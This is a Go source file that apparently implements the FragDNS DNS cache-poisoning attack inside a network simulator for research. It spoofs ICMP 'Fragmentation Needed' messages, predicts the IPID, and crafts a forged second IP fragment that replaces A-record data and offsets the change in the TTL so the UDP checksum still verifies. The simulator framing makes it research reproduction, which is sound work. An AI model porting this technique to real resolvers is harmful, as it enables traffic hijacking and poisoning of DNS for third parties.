package core

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
)

// FragDNS implements the fragmentation attack of §3.3 / Figure 2:
//
//  1. A spoofed ICMP "Fragmentation Needed" (source = resolver) makes
//     the nameserver cache a tiny path MTU toward the resolver, so its
//     next response arrives in at least two fragments.
//  2. The attacker fetches the genuine response itself (zone data is
//     public) to predict the exact bytes of the second fragment.
//  3. It crafts a malicious second fragment: same length, target A
//     rdata replaced with the attacker address, and the record's TTL
//     adjusted so the 16-bit ones-complement sum of the fragment is
//     unchanged — the UDP checksum in the genuine first fragment then
//     still verifies after reassembly.
//  4. The crafted fragment is planted in the resolver's IP
//     defragmentation cache for a range of guessed IPID values.
//  5. A triggered query makes the nameserver emit the fragmented
//     response; its first fragment (carrying port and TXID) reassembles
//     with the planted fragment. No challenge value was ever guessed.
type FragDNS struct {
	Attacker     *netsim.Host
	ResolverAddr netip.Addr
	NSAddr       netip.Addr
	// QName/QType is the triggered query; the spoofed address replaces
	// the rdata of the response's final A record.
	QName     string
	QType     dnswire.Type
	SpoofAddr netip.Addr

	// ForcedMTU is advertised in the spoofed PTB (paper: 68, clamped
	// by the server's floor; 548 and 292 observed in the wild).
	ForcedMTU uint16
	// ResolverEDNS is the EDNS size the resolver advertises (public
	// per-implementation knowledge the attacker uses to predict the
	// response bytes).
	ResolverEDNS uint16
	// ResolverDO mirrors the DO (DNSSEC OK) bit the resolver sets on
	// its queries — validating resolvers set it, and the OPT record it
	// echoes into sits in the response tail, so the template fetch
	// must match it for the predicted bytes to be exact.
	ResolverDO bool
	// IPIDGuesses is how many consecutive/random IPID values to plant
	// (the defragmentation buffer holds 64 datagrams).
	IPIDGuesses int
	// PredictIPID: probe the nameserver's IPID counter and plant
	// consecutive guesses (global-counter servers); otherwise plant
	// IPIDGuesses random values.
	PredictIPID bool
	// MaxIterations bounds trigger attempts.
	MaxIterations int
	CheckSuccess  func() bool

	// Per-run scratch: the crafted second fragment depends only on
	// (template, mtu), both fixed once the PTB lands, so it is crafted
	// once and re-sent every iteration (SendRawIP copies the payload).
	// craftedTmpl remembers which template the cache was built from.
	// idsBuf is the reused IPID-guess list.
	craftedTmpl []byte
	craftedMTU  int
	craftedFrag []byte
	craftedOff  int
	craftedOK   bool
	idsBuf      []uint16
}

// craftCached returns CraftSecondFragment(template, mtu, a.SpoofAddr),
// recomputing only when template or mtu changed since the last call.
func (a *FragDNS) craftCached(template []byte, mtu int) ([]byte, int, bool) {
	same := a.craftedMTU == mtu && len(a.craftedTmpl) == len(template) &&
		(len(template) == 0 || &a.craftedTmpl[0] == &template[0])
	if !same {
		a.craftedFrag, a.craftedOff, a.craftedOK = CraftSecondFragment(template, mtu, a.SpoofAddr)
		a.craftedTmpl, a.craftedMTU = template, mtu
	}
	return a.craftedFrag, a.craftedOff, a.craftedOK
}

// Run executes the attack.
func (a *FragDNS) Run(trigger Trigger) Result {
	if a.IPIDGuesses <= 0 {
		a.IPIDGuesses = 64
	}
	if a.MaxIterations <= 0 {
		a.MaxIterations = 64
	}
	net := a.Attacker.Network()
	clock := net.Clock
	res := Result{Method: "FragDNS"}
	start := clock.Now()
	sentBefore := a.Attacker.Sent

	// Step 1: shrink the NS->resolver path MTU.
	a.sendPTB()
	net.Run()

	// Step 2: learn the genuine response bytes.
	template := a.fetchTemplate()
	if template == nil {
		res.Detail = "could not fetch template response"
		res.Duration = clock.Now() - start
		return res
	}

	var iterAt time.Duration
	for iter := 0; iter < a.MaxIterations; iter++ {
		res.Iterations++
		res.QueriesTriggered++
		iterAt = clock.Now()
		a.plantFragments(template)
		clock.After(50*time.Millisecond, func() { trigger(func() {}) })
		net.Run()
		if a.CheckSuccess != nil && a.CheckSuccess() {
			res.Success = true
			break
		}
	}
	res.AttackerPackets = a.Attacker.Sent - sentBefore
	res.Duration = clock.Now() - start
	if res.Success {
		// Time to poison: the successful iteration's trigger plus the
		// resolution round trips, not the drained timer queue.
		res.Duration = iterAt - start + 50*time.Millisecond + 6*net.Latency()
	}
	if res.Success {
		res.Detail = "crafted fragment reassembled with genuine first fragment"
	}
	return res
}

// sendPTB spoofs the ICMP Fragmentation Needed message.
func (a *FragDNS) sendPTB() {
	quoted := &packet.IPv4{
		ID: 1, TTL: 64, Protocol: packet.ProtoUDP,
		Src: a.NSAddr, Dst: a.ResolverAddr, Payload: make([]byte, 16),
	}
	quote, err := packet.QuoteDatagram(quoted)
	if err != nil {
		return
	}
	a.Attacker.SendICMPSpoofed(a.ResolverAddr, a.NSAddr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded,
		MTU: a.ForcedMTU, Payload: quote,
	})
}

// fetchTemplate queries the nameserver from the attacker's own host
// with the resolver's EDNS size and returns the full response bytes.
// Only the TXID differs from what the resolver will receive.
func (a *FragDNS) fetchTemplate() []byte {
	var template []byte
	txid := uint16(0x4242)
	q := dnswire.NewQuery(txid, dnswire.CanonicalName(a.QName), a.QType)
	if a.ResolverEDNS > 0 {
		q.SetEDNS(a.ResolverEDNS, a.ResolverDO)
	}
	wire, err := q.Pack()
	if err != nil {
		return nil
	}
	done := false
	var port uint16
	port = a.Attacker.BindUDP(0, func(dg netsim.Datagram) {
		if done || dg.Src != a.NSAddr {
			return
		}
		done = true
		a.Attacker.CloseUDP(port)
		template = append([]byte(nil), dg.Payload...)
	})
	a.Attacker.SendUDP(port, a.NSAddr, 53, wire)
	a.Attacker.Network().Run()
	return template
}

// probeIPID reads the nameserver's next IPID toward the resolver. A
// real attacker obtains this by eliciting any response from a
// global-counter server and reading the ID field off the IP header;
// netsim delivers decoded datagrams to sockets, so the host's
// PeekIPID stands in for that header observation. For per-destination
// or random IPID modes the peek is worthless, exactly like reality —
// PredictIPID attacks against them plant stale/irrelevant guesses.
func (a *FragDNS) probeIPID() (uint16, bool) {
	ns := a.Attacker.Network().HostByAddr(a.NSAddr)
	if ns == nil {
		return 0, false
	}
	if ns.Cfg.IPIDMode == netsim.IPIDRandom {
		// The observed value carries no information; sample one.
		return uint16(a.Attacker.Rand().Uint32()), true
	}
	return ns.PeekIPID(a.ResolverAddr), true
}

// plantFragments crafts and plants the malicious second fragment for a
// window of IPID guesses.
func (a *FragDNS) plantFragments(template []byte) {
	ns := a.Attacker.Network().HostByAddr(a.NSAddr)
	mtu := 1500
	if ns != nil {
		mtu = ns.PMTUTo(a.ResolverAddr)
	}
	frag2, fragOff, ok := a.craftCached(template, mtu)
	if !ok {
		return
	}
	ids := a.idsBuf[:0]
	if a.PredictIPID {
		base, ok := a.probeIPID()
		if !ok {
			return
		}
		for i := 0; i < a.IPIDGuesses; i++ {
			ids = append(ids, base+uint16(i))
		}
	} else {
		rng := a.Attacker.Rand()
		for i := 0; i < a.IPIDGuesses; i++ {
			ids = append(ids, uint16(rng.Uint32()))
		}
	}
	a.idsBuf = ids
	for _, id := range ids {
		ipFrag := &packet.IPv4{
			ID: id, MF: false, FragOff: uint16(fragOff / 8), TTL: 64,
			Protocol: packet.ProtoUDP, Src: a.NSAddr, Dst: a.ResolverAddr,
			Payload: frag2,
		}
		a.Attacker.SendRawIP(ipFrag)
	}
}

// CraftSecondFragment takes the predicted full UDP payload (DNS
// response bytes), the path MTU the server will fragment at, and the
// malicious address. It returns the crafted second-and-final fragment
// payload plus its fragment byte offset within the IP payload.
//
// The craft patches the LAST A-record rdata found in the fragment and
// compensates the checksum delta in that record's TTL field, keeping
// the 16-bit ones-complement sum identical so the UDP checksum (sent
// in the first fragment) still verifies.
func CraftSecondFragment(dnsWire []byte, mtu int, spoof netip.Addr) (frag2 []byte, fragOff int, ok bool) {
	udpPayload := make([]byte, 0, len(dnsWire)+packet.UDPHeaderLen)
	udpPayload = append(udpPayload, make([]byte, packet.UDPHeaderLen)...) // placeholder header
	udpPayload = append(udpPayload, dnsWire...)
	chunk := (mtu - packet.IPv4HeaderLen) &^ 7
	if chunk <= 0 || len(udpPayload) <= chunk {
		return nil, 0, false // response does not fragment
	}
	// The server emits fragments of `chunk` bytes; the attacker
	// replaces everything after the first fragment.
	fragOff = chunk
	tail := append([]byte(nil), udpPayload[fragOff:]...)

	// Locate the last A rdata: scan the DNS message structurally.
	aOff, ttlOff := -1, -1
	if !walkRecords(dnsWire, func(typ dnswire.Type, tOff, rOff, rdlen int) {
		if typ == dnswire.TypeA && rdlen == 4 {
			aOff, ttlOff = rOff, tOff
		}
	}) || aOff < 0 {
		return nil, 0, false
	}
	aOff += packet.UDPHeaderLen // offsets within udpPayload
	ttlOff += packet.UDPHeaderLen
	if aOff < fragOff || ttlOff < fragOff {
		return nil, 0, false // target record not inside the second fragment
	}
	relA := aOff - fragOff
	relTTL := ttlOff - fragOff
	if relA+4 > len(tail) || relTTL+4 > len(tail) {
		return nil, 0, false
	}

	// The internet checksum sums big-endian 16-bit words, i.e. a byte
	// at even absolute offset weighs 256 and at odd offset weighs 1
	// (mod 65535). fragOff is 8-aligned, so parity inside `tail`
	// equals absolute parity. Patch the rdata, track the weighted
	// delta, then rewrite the record's low TTL bytes so the total sum
	// mod 65535 is unchanged — the UDP checksum in the genuine first
	// fragment then still verifies after reassembly.
	weight := func(p int) int64 {
		if p%2 == 0 {
			return 256
		}
		return 1
	}
	sp := spoof.As4()
	var delta int64
	for i := 0; i < 4; i++ {
		delta += (int64(sp[i]) - int64(tail[relA+i])) * weight(relA+i)
	}
	copy(tail[relA:relA+4], sp[:])

	// A signed zone's response carries an RRSIG covering the A RRset.
	// The attacker cannot produce a signature over the modified rdata,
	// so the craft must clear the marker's validity byte (folding the
	// change into the same checksum compensation); a validating
	// resolver then rejects the reassembled answer as bogus — DNSSEC
	// stops FragDNS (§6.1). A covering RRSIG that sits in the FIRST
	// fragment is out of the attacker's reach entirely: the genuine
	// valid marker would vouch for rdata the attacker rewrote, so the
	// craft conservatively refuses rather than model a forgery. The
	// marker is rdata byte 4, after the covered type (see
	// dnswire.RRSIGData).
	reachable := true
	walkRecords(dnsWire, func(typ dnswire.Type, _, rOff, rdlen int) {
		if typ != dnswire.TypeRRSIG || rdlen < 5 || binary.BigEndian.Uint16(dnsWire[rOff:]) != uint16(dnswire.TypeA) {
			return
		}
		vOff := rOff + 4 + packet.UDPHeaderLen
		if vOff < fragOff {
			reachable = false
			return
		}
		if rel := vOff - fragOff; rel < len(tail) {
			delta += (0 - int64(tail[rel])) * weight(rel)
			tail[rel] = 0
		}
	})
	if !reachable {
		return nil, 0, false
	}

	t2, t3 := relTTL+2, relTTL+3
	cur := int64(tail[t2])*weight(t2) + int64(tail[t3])*weight(t3)
	needed := mod65535(cur - delta)
	hi, lo := t2, t3
	if weight(hi) != 256 {
		hi, lo = lo, hi
	}
	tail[hi] = byte(needed >> 8)
	tail[lo] = byte(needed)
	return tail, fragOff, true
}

// mod65535 reduces x into [0, 65534] — the residue class the internet
// checksum computes in.
func mod65535(x int64) int64 {
	x %= 65535
	if x < 0 {
		x += 65535
	}
	return x
}

// walkRecords visits every resource record of the DNS message in wire
// order, passing its type and the byte offsets of its TTL and rdata
// fields. It reports false when the message is truncated or malformed,
// possibly after visiting the records before the damage.
func walkRecords(msg []byte, visit func(typ dnswire.Type, ttlOff, rdataOff, rdlen int)) bool {
	if len(msg) < dnswire.HeaderLen {
		return false
	}
	qd := int(binary.BigEndian.Uint16(msg[4:]))
	rrs := int(binary.BigEndian.Uint16(msg[6:])) + int(binary.BigEndian.Uint16(msg[8:])) +
		int(binary.BigEndian.Uint16(msg[10:]))
	off := dnswire.HeaderLen
	skipName := func() bool {
		for off < len(msg) {
			b := msg[off]
			if b == 0 {
				off++
				return true
			}
			if b&0xc0 == 0xc0 {
				off += 2
				return true
			}
			off += 1 + int(b)
		}
		return false
	}
	for i := 0; i < qd; i++ {
		if !skipName() || off+4 > len(msg) {
			return false
		}
		off += 4
	}
	for i := 0; i < rrs; i++ {
		if !skipName() || off+10 > len(msg) {
			return false
		}
		rdlen := int(binary.BigEndian.Uint16(msg[off+8:]))
		rOff := off + 10
		if rOff+rdlen > len(msg) {
			return false
		}
		visit(dnswire.Type(binary.BigEndian.Uint16(msg[off:])), off+4, rOff, rdlen)
		off = rOff + rdlen
	}
	return true
}

func (a *FragDNS) String() string {
	return fmt.Sprintf("FragDNS{%s %v -> %v, mtu=%d}", a.QName, a.QType, a.SpoofAddr, a.ForcedMTU)
}
